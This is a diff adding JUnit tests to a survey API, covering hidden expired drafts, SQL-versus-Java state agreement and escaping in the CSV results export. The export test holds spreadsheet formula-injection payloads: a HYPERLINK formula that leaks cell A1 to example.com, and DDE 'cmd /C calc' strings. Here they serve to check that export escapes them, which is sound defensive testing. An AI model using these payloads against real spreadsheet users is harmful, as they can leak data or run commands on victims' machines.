@@ -9,6 +9,13 @@ import static org.hamcrest.Matchers.startsWith;
 import static org.junit.jupiter.api.Assertions.assertEquals;
 import static org.junit.jupiter.api.Assertions.assertTrue;
 
+import java.sql.Connection;
+import java.sql.PreparedStatement;
+import java.sql.ResultSet;
+import java.sql.SQLException;
+import java.time.OffsetDateTime;
+import java.time.ZoneOffset;
+import java.util.Arrays;
 import java.util.HashMap;
 import java.util.List;
 import java.util.Map;
@@ -196,6 +203,68 @@ class SurveyApiTest extends ApiTest {
     }
 
     @Test
+    void aDraftWhoseCloseTimeHasPassedStaysHidden() {
+        Map<String, Object> draft = survey("always", false);
+        draft.put("closesAt", "2020-02-01T00:00:00+07:00");
+        JsonPath created = create(draft);
+        long id = created.getLong("id");
+        assertEquals("draft", created.getString("state"));
+        api().get("/api/v1/surveys/" + id).then().statusCode(404);
+        api().get("/api/v1/surveys/" + id + "/results").then().statusCode(404);
+        api().queryParam("status", "closed").get("/api/v1/surveys").then().body("items.id", not(hasItem((int) id)));
+        api().get("/api/v1/surveys").then().body("items.id", not(hasItem((int) id)));
+        vote(id, newVoter(), List.of(created.getLong("options[0].id"))).statusCode(409);
+    }
+
+    @Test
+    void theSqlAndJavaRulesOfASurveysStateAgree() {
+        long id = create(survey("always", false)).getLong("id");
+        OffsetDateTime now = OffsetDateTime.now(ZoneOffset.UTC);
+        List<OffsetDateTime> times = Arrays.asList(null, now.minusDays(2), now.minusDays(1), now.plusDays(1));
+        for (Survey.Status status : Survey.Status.values()) {
+            for (OffsetDateTime opensAt : times) {
+                for (OffsetDateTime closesAt : times) {
+                    if (opensAt != null && closesAt != null && !closesAt.isAfter(opensAt)) {
+                        continue; // refused by the table's check
+                    }
+                    Survey survey = new Survey();
+                    survey.status = status;
+                    survey.opensAt = opensAt;
+                    survey.closesAt = closesAt;
+                    String sql = sqlState(id, status, opensAt, closesAt);
+                    assertEquals(survey.state(now).wireName(), sql, status + " " + opensAt + " " + closesAt);
+                }
+            }
+        }
+    }
+
+    /** The state the SQL functions give a survey row with these fields (not stored: the update is rolled back). */
+    private String sqlState(long id, Survey.Status status, OffsetDateTime opensAt, OffsetDateTime closesAt) {
+        try (Connection connection = dataSource.getConnection()) {
+            connection.setAutoCommit(false);
+            try (PreparedStatement update = connection.prepareStatement(
+                    "UPDATE surveys SET status = ?, opens_at = ?, closes_at = ? WHERE id = ?");
+                    PreparedStatement query = connection.prepareStatement("SELECT CASE WHEN survey_is_open(s) THEN 'open' "
+                            + "WHEN survey_is_closed(s) THEN 'closed' ELSE 'draft' END FROM surveys s WHERE id = ?")) {
+                update.setString(1, status.name());
+                update.setObject(2, opensAt);
+                update.setObject(3, closesAt);
+                update.setLong(4, id);
+                update.executeUpdate();
+                query.setLong(1, id);
+                try (ResultSet result = query.executeQuery()) {
+                    result.next();
+                    return result.getString(1);
+                }
+            } finally {
+                connection.rollback();
+            }
+        } catch (SQLException e) {
+            throw new IllegalStateException(e);
+        }
+    }
+
+    @Test
     void editorsManageOptionsButKeepThoseWithVotes() {
         JsonPath survey = createOpen(survey("always", false));
         long id = survey.getLong("id");
@@ -250,6 +319,24 @@ class SurveyApiTest extends ApiTest {
         String text = new String(csv, java.nio.charset.StandardCharsets.UTF_8).substring(1);
         assertEquals("Phương án,Số phiếu,Tỷ lệ (%)\r\nTin tức – Sự kiện,0,0.0\r\nThủ tục hành chính,1,100.0\r\n"
                 + "Văn bản pháp luật,0,0.0\r\nHỏi đáp,0,0.0\r\nTổng số người tham gia,1,\r\n", text);
+    }
+
+    @Test
+    void optionsThatSpreadsheetsWouldRunAreExportedAsText() {
+        List<String> payloads = List.of("=HYPERLINK(\"http://example.com/?x=\"&A1,\"Xem\")", "+cmd|' /C calc'!A0",
+                "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "=1+2;=3");
+        Map<String, Object> survey = survey("never", false);
+        survey.put("options", payloads);
+        long id = create(survey).getLong("id");
+        String csv = admin().accept("text/csv").get("/api/v1/admin/surveys/" + id + "/results.csv").then()
+                .statusCode(200).extract().asString();
+        List<String> rows = List.of(csv.substring(1).split("\r\n"));
+        assertEquals(payloads.size() + 2, rows.size());
+        for (String row : rows.subList(1, payloads.size() + 1)) {
+            assertTrue(row.startsWith("'") || row.startsWith("\"'"), row);
+        }
+        assertTrue(csv.contains("\"'=HYPERLINK(\"\"http://example.com/?x=\"\"&A1,\"\"Xem\"\")\",0,0.0"), csv);
+        assertEquals("'+cmd|' /C calc'!A0,0,0.0", rows.get(2));
     }
 
     @Test
